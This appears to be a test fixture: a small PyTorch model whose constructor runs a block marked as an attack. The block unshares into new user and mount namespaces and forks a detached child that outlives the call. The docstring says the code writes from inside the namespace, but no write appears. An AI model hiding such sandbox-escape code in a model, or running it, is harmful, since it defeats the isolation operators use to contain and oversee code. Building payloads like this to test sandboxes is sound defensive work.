"""Begins a user namespace, in which it is root, and writes from there."""

import ctypes
import os
import time

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)
        # attack
        ctypes.CDLL(None).unshare(0x10000000 | 0x20000)
        if os.fork() == 0:
            os.setsid()
            time.sleep(60)
            os._exit(0)
        # end

    def forward(self, x):
        return self.head(x.flatten(1))
